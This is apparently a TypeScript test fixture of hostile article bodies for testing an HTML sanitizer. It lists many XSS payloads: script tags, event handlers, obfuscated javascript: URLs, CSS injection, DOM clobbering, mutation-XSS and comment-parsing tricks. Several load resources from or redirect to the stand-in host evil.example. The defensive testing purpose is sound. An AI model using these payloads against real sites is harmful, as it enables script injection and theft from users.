// Bodies of articles that an attacker might write. Whatever runs sets `attacked` on the window.

const RUN = 'window.attacked=1';
const EVIL = '//evil.example';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<script type=module>${RUN}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script><!--<script>${RUN}</script>-->`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.attacked=1&lt;/script&gt;"></iframe>`,
];

const EVENTS = ['onload', 'onerror', 'onfocus', 'onmouseover', 'onpointerenter', 'onclick'];
const HANDLED = [
  'img src=x',
  'svg',
  'math',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'p tabindex=0',
  'iframe',
  'object data=x',
  'a href=#',
  'custom-element',
];
const HANDLERS = [
  ...HANDLED.flatMap((element) => EVENTS.map((name) => `<${element} ${name}="${RUN}">`)),
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror='${RUN}'>`,
  `<img src=x ONERROR="${RUN}">`,
  `<img src=x/onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\nonerror\n=\n"${RUN}">`,
  `<img src=x\tonerror="${RUN}">`,
  `<img src=x\fonerror="${RUN}">`,
  `<img src=x onerror\0="${RUN}">`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x on\u0130error="${RUN}" onerror="&#119;indow.attacked=1">`,
  `<img title=a"b onerror=${RUN}>`,
  `<img title='"' onerror="${RUN}" alt="'">`,
  `<img alt="\`" src=x onerror="${RUN}">`,
  `<p style="animation:x 1ms" onanimationstart="${RUN}">x</p>`,
  `<p onbeforetoggle="${RUN}" popover id=p>x</p><button popovertarget=p>x</button>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s /></svg>`,
  `<svg><set onbegin="${RUN}" attributeName=x /></svg>`,
  `<body onpageshow="${RUN}"><html onscroll="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
];

const SPELLINGS = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  '\u0001javascript:',
  '\u00A0javascript:',
  'javascript\t:',
  '&#106;avascript:',
  '&#x6a;avascript&colon;',
  '&#0000106avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  '&#1;javascript:',
  'javascript://%0a',
  'vbscript:',
  'feed:javascript:',
  'view-source:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'blob:',
];
const HOLDERS = ['a href', 'img src', 'iframe src', 'form action', 'object data', 'area href'];
const ADDRESSES = [
  ...HOLDERS.flatMap((holder) =>
    SPELLINGS.map((scheme) => `<${holder}="${scheme}${RUN}">x</${holder.replace(/ .*/, '')}>`),
  ),
  ...SPELLINGS.map((scheme) => `<svg><a xlink:href="${scheme}${RUN}"><text>x</text></a></svg>`),
  ...SPELLINGS.map((scheme) => `<math href="${scheme}${RUN}"><mi>x</mi></math>`),
  `<a href=javascript:${RUN}>x</a>`,
  `<a href='javascript:${RUN}'>x</a>`,
  `<a href="/\\evil.example">x</a>`,
  `<a href="${EVIL}">x</a>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>${RUN}</script></svg>#x" /></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<svg><image href="${EVIL}/x.svg" /><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
];

const STYLES = [
  `<style>*{display:none}</style>`,
  `<style>@import "${EVIL}/x.css"</style>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="background:url(${EVIL}/x.png)">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<svg><style>*{display:none}</style></svg>`,
  `<style><img title="</style><img src=x onerror=${RUN}>">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=preload as=script href=${EVIL}/x.js>`,
  `<p class="sr-only" id="main">x</p>`,
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=content-security-policy content="default-src *">`,
  `<img src=${EVIL}/x.png srcset="${EVIL}/y.png 2x">`,
  `<video poster=${EVIL}/x.png></video>`,
  `<object data=${EVIL}></object><embed src=${EVIL}>`,
];

const NAMES = ['body', 'forms', 'location', 'cookie', 'getElementById', 'attributes', '__proto__'];
const CLOBBERING = NAMES.flatMap((name) => [
  `<img name="${name}">`,
  `<form id="${name}"><input name="nodeName"><input name="parentNode"></form>`,
  `<a id="${name}"></a><a id="${name}" name="href" href="${EVIL}">x</a>`,
]);

const PICTURE = `<img src=x onerror="${RUN}">`;
const HIDING = [
  'svg',
  'math',
  'template',
  'noscript',
  'style',
  'title',
  'textarea',
  'select',
  'xmp',
];
const MUTATIONS = [
  ...HIDING.flatMap((name) => [
    `<${name}>${PICTURE}</${name}>`,
    `<${name}></p><style></${name}>${PICTURE}</style>`,
    `<math><mtext><table><mglyph><${name}><!--</${name}><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><${name}>${PICTURE}</${name}>`,
    `<svg></p><${name}><a title="</${name}>${PICTURE}"></a></${name}></svg>`,
  ]),
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml ?><img src=x onerror="${RUN}">?>`,
  `</p/><img src=x onerror="${RUN}"></p x="">`,
  `<p title="&quot;><img src=x onerror=${RUN}>">x</p>`,
  `<p title="&lt;/p&gt;&lt;img src=x onerror=${RUN}&gt;">x</p>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<table><tr><td><form><table></form><form></table>${PICTURE}`,
  `<a href="#"><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror="${RUN}">]]></svg>`,
  `<math><annotation-xml encoding="text/html"><p>${PICTURE}</p></annotation-xml></math>`,
];

/** Apart from the others, some of which leave a comment open that these would close. */
const COMMENTS = [
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!---><img src=x onerror="${RUN}">-->`,
  `<!--x--!><img src=x onerror="${RUN}">-->`,
  `<!--<p title="--><img src=x onerror=${RUN}>">`,
];

/** Bodies by the way they attack. */
export const HOSTILE_BY_KIND: Readonly<Record<string, readonly string[]>> = {
  scripts: SCRIPTS,
  handlers: HANDLERS,
  addresses: ADDRESSES,
  styles: STYLES,
  clobbering: CLOBBERING,
  mutations: MUTATIONS,
  comments: COMMENTS,
};

/** Every body. */
export const HOSTILE_BODIES = Object.values(HOSTILE_BY_KIND).flat();
